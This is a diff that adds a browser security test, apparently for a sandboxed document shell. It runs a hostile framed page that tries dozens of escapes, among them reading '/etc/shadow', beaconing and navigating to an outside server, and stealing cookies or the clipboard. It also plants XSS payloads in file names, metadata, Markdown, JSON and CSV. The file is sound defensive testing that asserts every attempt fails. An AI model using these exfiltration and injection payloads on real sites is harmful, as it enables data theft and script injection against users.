@@ -1,0 +1,261 @@
+/**
+ * A stranger's world in the shell's frame, trying everything. What it finds it writes into its own
+ * page, where the test reads it; what it reaches outside is looked for outside.
+ */
+
+import assert from "node:assert/strict";
+import { openPage, startBrowser } from "./browser.ts";
+import { startTestMachine } from "./machine.ts";
+
+/** Each attempt ends in what it got; every one of them must have got nothing. */
+const ATTEMPTS: Record<string, string> = {
+  "the parent's document": "return parent.document.title",
+  "the top's document": "return top.document.body.innerHTML",
+  "the shell's session": "return parent.sessionStorage.length",
+  "a sibling frame": "return parent.frames[1] === undefined ? refuse() : parent.frames[1].document",
+  "its own cookies": "return document.cookie",
+  "setting a cookie": "document.cookie = 'a=b'; return document.cookie",
+  "session storage": "return sessionStorage.length",
+  "local storage": "return localStorage.length",
+  "a database": "return indexedDB.open('x')",
+  "a cache": "return await caches.open('x')",
+  "a service worker": "return await navigator.serviceWorker.register('/home/sw.js?raw')",
+  "a worker": "return await started(new Worker('/home/sw.js?raw'))",
+  "a worker of its own":
+    "return await started(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))",
+  "fetch of /etc/shadow": "return (await fetch('/etc/shadow?raw')).status",
+  "fetch of a world": "return (await fetch('/home/secret?raw', { mode: 'no-cors' })).type",
+  "fetch of a foreign host": "return (await fetch(OUTSIDE, { mode: 'no-cors' })).type",
+  "minting":
+    "return (await fetch('/auth/mint?prefix=/', { method: 'POST', mode: 'no-cors' })).type",
+  "a beacon": "navigator.sendBeacon(OUTSIDE + 'beacon', 'x'); refuse()",
+  "an XMLHttpRequest":
+    "const x = new XMLHttpRequest(); x.open('GET', '/etc/shadow?raw', false); x.send(); return x.status",
+  "an event stream":
+    "return await new Promise((ok, no) => { const s = new EventSource('/stream/home/secret'); s.onopen = ok; s.onerror = no })",
+  "a socket":
+    "return await new Promise((ok, no) => { const s = new WebSocket('ws://127.0.0.1:1'); s.onopen = ok; s.onerror = no })",
+  "a frame of a world": "return await framed('/home/secret?raw')",
+  "a frame of the shell": "return await framed('/home/secret')",
+  "a popup": "return open('/home/secret') ?? refuse()",
+  "the top's navigation": "top.location = OUTSIDE; refuse()",
+  "the parent's navigation": "parent.location.href = OUTSIDE; refuse()",
+  "a link to the top":
+    "const a = document.createElement('a'); a.href = OUTSIDE; a.target = '_top'; document.body.append(a); a.click(); refuse()",
+  "a form":
+    "const f = document.createElement('form'); f.method = 'post'; f.action = '/home/form'; f.target = '_top'; document.body.append(f); f.submit(); refuse()",
+  "a module of another world": "return await import('/home/module.js?raw')",
+  "a dialog": "return prompt('password?') ?? refuse()",
+  "a download":
+    "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; document.body.append(a); a.click(); refuse()",
+  "full screen": "await document.documentElement.requestFullscreen(); return 1",
+  "the clipboard": "return await navigator.clipboard.readText()",
+  "where somebody is":
+    "return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))",
+};
+
+function hostile(outside: string): string {
+  const attempts = Object.entries(ATTEMPTS).map(([name, body]) =>
+    `[${JSON.stringify(name)}, async () => { ${body} }],`
+  );
+  return `<!doctype html><title>hostile</title><body><script>
+const OUTSIDE = ${JSON.stringify(outside)};
+function refuse() { throw new Error("refused"); }
+function started(worker) {
+  return new Promise((ok, no) => { worker.onmessage = ok; worker.onerror = no; setTimeout(no, 500); });
+}
+function framed(src) {
+  return new Promise((ok, no) => {
+    const frame = document.createElement("iframe");
+    frame.src = src;
+    frame.onload = () => { try { frame.contentDocument.body ? no() : ok(1) } catch { no() } };
+    document.body.append(frame);
+    setTimeout(no, 500);
+  });
+}
+(async () => {
+  const got = [];
+  for (const [name, attempt] of [${attempts.join("\n")}]) {
+    const late = new Promise((ok, no) => setTimeout(no, 700));
+    try {
+      const found = await Promise.race([attempt(), late]);
+      if (found !== undefined && found !== "") got.push(name + ": " + found);
+    } catch {}
+  }
+  document.body.append(Object.assign(document.createElement("p"), { id: "done", textContent: JSON.stringify(got) }));
+})();
+</script>`;
+}
+
+Deno.test("a hostile world", async (t) => {
+  const browser = await startBrowser();
+  const machine = await startTestMachine();
+  const visits: string[] = [];
+  const outside = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen: () => {} }, (request) => {
+    visits.push(`${request.method} ${new URL(request.url).pathname}`);
+    return new Response("outside", { headers: { "access-control-allow-origin": "*" } });
+  });
+  const outsideUrl = `http://127.0.0.1:${outside.addr.port}/`;
+  const signedIn = async (path: string) => {
+    const opened = await openPage(browser);
+    await opened.page.goto(machine.url);
+    await opened.page.evaluate(
+      `sessionStorage.setItem("elastik.authorization", "Bearer ${machine.approve}")`,
+    );
+    await opened.page.goto(machine.url + path);
+    return opened;
+  };
+  try {
+    await machine.put("/home/secret", "<p>secret</p>");
+    await machine.put("/home/sw.js", "postMessage(1)");
+    await machine.put("/home/module.js", "export default 1");
+    await machine.put("/home/hostile", hostile(outsideUrl));
+
+    await t.step("reaches nothing beyond its frame, though an approver looks at it", async () => {
+      const { page } = await signedIn("/home/hostile");
+      const popups: string[] = [];
+      page.context().on("page", (popup) => popups.push(popup.url()));
+      page.on("download", () => popups.push("download"));
+      const done = page.frameLocator(".stage iframe").locator("#done");
+      await done.waitFor({ timeout: 25_000 });
+      assert.deepEqual(JSON.parse(await done.textContent() ?? ""), []);
+      assert.equal(page.url(), `${machine.url}/home/hostile`);
+      assert.deepEqual(popups, []);
+      assert.deepEqual(visits, []);
+      const names = await (await fetch(`${machine.url}/home/`)).text();
+      assert.deepEqual(names.split("\n").filter((name) => /beacon|form/.test(name)), []);
+      assert.equal(
+        await page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)"),
+        0,
+      );
+      await page.context().close();
+    });
+
+    await t.step("cannot carry what it holds out of the machine by going there", async () => {
+      const leave = (how: string) => `<p>mine</p><script>setTimeout(() => { ${how} }, 50)</script>`;
+      const ways = {
+        location: `location = ${JSON.stringify(outsideUrl)} + "location"`,
+        replace: `location.replace(${JSON.stringify(outsideUrl)} + "replace")`,
+        refresh:
+          `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=${outsideUrl}refresh" }))`,
+        link:
+          `const a = document.createElement("a"); a.href = "${outsideUrl}link"; document.body.append(a); a.click()`,
+        open: `open(${JSON.stringify(outsideUrl)}, "_self")`,
+        raw: `location = "/home/secret?raw"`,
+      };
+      for (const [name, how] of Object.entries(ways)) {
+        await machine.put("/home/leaver", leave(how));
+        const { page } = await signedIn("/home/leaver");
+        await page.locator(".stage iframe").waitFor();
+        await page.waitForTimeout(250);
+        assert.deepEqual(visits, [], name);
+        const secret = page.frameLocator(".stage iframe").getByText("secret", { exact: true });
+        assert.equal(await secret.count(), 0, name);
+        assert.equal(page.url(), `${machine.url}/home/leaver`);
+        await page.context().close();
+      }
+    });
+
+    await t.step("is never told the credential, nor anything but its own bytes", async () => {
+      await machine.put(
+        "/home/listener",
+        `<p id="out"></p><script>
+          const seen = [];
+          addEventListener("message", (event) => { seen.push(event.data); show(); });
+          const post = MessagePort.prototype.postMessage;
+          MessagePort.prototype.postMessage = function (data) { seen.push(data); show(); return post.call(this, data); };
+          function show() { out.textContent = JSON.stringify(seen); }
+          dispatchEvent(new Event("scroll"));
+          parent.postMessage({ shown: true, link: "javascript:alert(1)" }, "*");
+        </script>`,
+      );
+      const { page } = await signedIn("/home/listener");
+      const out = page.frameLocator(".stage iframe").locator("#out");
+      await page.waitForTimeout(300);
+      assert.ok(!(await out.textContent() ?? "").includes(machine.approve));
+      const html = await page.frames().at(-1)?.content();
+      assert.ok(html !== undefined && !html.includes(machine.approve));
+      await page.context().close();
+    });
+
+    await t.step("may wish for a link, which opens nothing until the reader opens it", async () => {
+      await machine.put(
+        "/home/linker",
+        `<a href="${outsideUrl}x">away</a><a href="javascript:parent.x=1">run</a>`,
+      );
+      const { page } = await signedIn("/home/linker");
+      await page.frameLocator(".stage iframe").getByText("away").click();
+      const link = page.locator(".link-bar a");
+      assert.equal(await link.getAttribute("href"), `${outsideUrl}x`);
+      assert.equal(await link.getAttribute("rel"), "noopener noreferrer");
+      await page.frameLocator(".stage iframe").getByText("run").click();
+      await page.getByText("javascript:parent.x=1").waitFor();
+      assert.equal(await link.getAttribute("href"), null);
+      assert.deepEqual(visits, []);
+      await page.context().close();
+    });
+
+    await t.step(
+      "is text to the shell in its name, its metadata, its Markdown and its JSON",
+      async () => {
+        const evil = `<img src=x onerror="globalThis.hit=1"><script>globalThis.hit=1</script>`;
+        const name = "/home/<img src=x onerror=hit=1>.md".replace(/[<>]/g, "'");
+        await machine.put(
+          encodeURI(name),
+          `# ${evil}\n\n${evil}\n\n[a](javascript:hit=1) [b](data:text/html,x) ![c](${outsideUrl}pic) <javascript:hit=1>\n`,
+          { "x-meta-author": evil },
+        );
+        await machine.put("/home/evil.json", JSON.stringify({ [evil]: evil, __proto__: { x: 1 } }));
+        await machine.put("/home/evil.csv", `${evil},b\n"${evil.replaceAll('"', '""')}",2\n`);
+        for (const path of [encodeURI(name), "/home/evil.json", "/home/evil.csv", "/home/"]) {
+          const { page, said } = await openPage(browser);
+          await page.goto(machine.url + path);
+          await page.getByText("onerror").first().waitFor();
+          await page.waitForTimeout(150);
+          assert.equal(await page.evaluate("globalThis.hit"), undefined, path);
+          assert.equal(await page.locator("main img, main script").count(), 0, path);
+          assert.equal(
+            await page.locator("a[href^='javascript'], a[href^='data']").count(),
+            0,
+            path,
+          );
+          assert.deepEqual(said, [], path);
+          await page.context().close();
+        }
+        assert.deepEqual(visits, []);
+      },
+    );
+
+    await t.step("draws an SVG whose script runs in the cage alone", async () => {
+      await machine.put(
+        "/home/evil.svg",
+        `<svg xmlns="http://www.w3.org/2000/svg"><text y="20" id="t">still</text><script>
+          let got = "nothing"; try { got = parent.document.title } catch {} try { got = localStorage.length } catch {}
+          document.getElementById("t").textContent = "got " + got;
+        </script></svg>`,
+      );
+      const { page } = await signedIn("/home/evil.svg");
+      await page.frameLocator(".stage iframe").getByText("got nothing").waitFor();
+      await page.context().close();
+    });
+
+    await t.step("cannot have the shell make markup or code of a string", async () => {
+      const { page } = await openPage(browser);
+      await page.goto(`${machine.url}/home/`);
+      for (
+        const way of [
+          "document.body.innerHTML = '<b>x</b>'",
+          "document.write('x')",
+          "document.body.insertAdjacentHTML('beforeend', '<i>x</i>')",
+          "setTimeout('globalThis.hit = 1')",
+          "document.createElement('script').src = '/home/sw.js?raw'",
+        ]
+      ) await assert.rejects(page.evaluate(way), /TrustedHTML|TrustedScript/, way);
+      await page.context().close();
+    });
+  } finally {
+    await browser.close();
+    await outside.shutdown();
+    await machine.stop();
+  }
+});
